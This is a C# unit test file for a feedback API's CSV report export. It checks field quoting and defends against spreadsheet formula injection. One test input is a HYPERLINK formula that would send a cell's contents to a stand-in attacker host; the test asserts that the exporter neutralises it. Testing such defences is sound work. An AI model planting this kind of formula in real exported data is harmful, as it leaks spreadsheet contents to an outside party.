using System.Text;
using Feedback.Api.Domain.Reports;
using Feedback.Api.Features.Reports;
using Microsoft.AspNetCore.Http;

namespace Feedback.Api.Tests.Reports;

public sealed class GapReportCsvTests
{
    [Fact]
    public async Task QuotesFieldsWithCommasQuotesAndLineBreaks_AndLeavesNullCellsEmpty()
    {
        var rows = new[]
        {
            new GapReportItem("e-1", "Ann \"The Boss\" Lee", "R&D, Labs", true, 3.25, 0.1 + 0.2,
                new GapReportGap(-0.5, 4, [-1.25, 0.25], false), Quadrant.LeaderOnly),
            new GapReportItem("e-2", "Two\r\nLines", null, false, 4, 3, null, Quadrant.Developing),
        };

        var csv = await WriteAsync(rows);

        Assert.Equal(
            "externalId,displayName,department,isManager,leadership,management,gap,gapCiLow,gapCiHigh,significant,quadrant\r\n"
            + "e-1,\"Ann \"\"The Boss\"\" Lee\",\"R&D, Labs\",true,3.25,0.30000000000000004,-0.5,-1.25,0.25,false,leaderOnly\r\n"
            + "e-2,\"Two\r\nLines\",,false,4,3,,,,,developing\r\n",
            csv);
    }

    [Fact]
    public async Task TextCellsThatASpreadsheetWouldRunAsAFormula_AreQuoted_NumbersAreNot()
    {
        var rows = new[]
        {
            new GapReportItem("@admin", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+Sales", true, 3, 3.5,
                new GapReportGap(-0.5, 4, [-1.25, 0.25], false), Quadrant.ManagerOnly),
            new GapReportItem("-1", "\tTabbed", "\rReturned", false, 4, 3, null, Quadrant.Developing),
        };

        var csv = await WriteAsync(rows);

        var lines = csv.Split("\r\n");
        Assert.Equal("'@admin,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'+Sales,true,3,3.5,-0.5,-1.25,0.25,false,managerOnly", lines[1]);
        Assert.StartsWith("'-1,'\tTabbed,\"'\rReturned\",false,4,3,", csv.Split("\r\n", 3)[2]);
    }

    private static async Task<string> WriteAsync(IEnumerable<GapReportItem> rows)
    {
        var context = new DefaultHttpContext();
        using var body = new MemoryStream();
        context.Response.Body = body;
        await new GapReportCsvResult(new GapReportExport(Guid.Empty, DateTimeOffset.UnixEpoch, rows.ToAsyncEnumerable())).ExecuteAsync(context);
        Assert.Equal("text/csv; charset=utf-8", context.Response.ContentType);
        return Encoding.UTF8.GetString(body.ToArray());
    }
}
